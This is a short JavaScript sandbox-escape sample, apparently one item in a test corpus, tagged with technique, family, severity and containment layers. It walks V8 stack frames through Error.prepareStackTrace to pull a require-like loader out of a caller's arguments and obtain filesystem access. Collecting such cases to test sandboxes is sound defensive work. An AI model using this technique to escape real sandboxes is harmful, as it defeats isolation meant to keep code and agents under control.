// technique: the wrapper's arguments by a call site
// family: B
// severity: H
// layers: policy, mount_namespace, landlock
function trick() {
  Error.prepareStackTrace = (_, sites) => sites;
  const sites = new Error().stack;
  Error.prepareStackTrace = undefined;
  for (const site of sites) {
    const f = site.getFunction();
    const given = f && f.arguments;
    for (const a of given ? Array.from(given) : []) {
      if (typeof a === 'function' && a.resolve) { a('fs'); return a; }
    }
  }
  throw new Error('no frame has a loader');
}
readHost(trick);
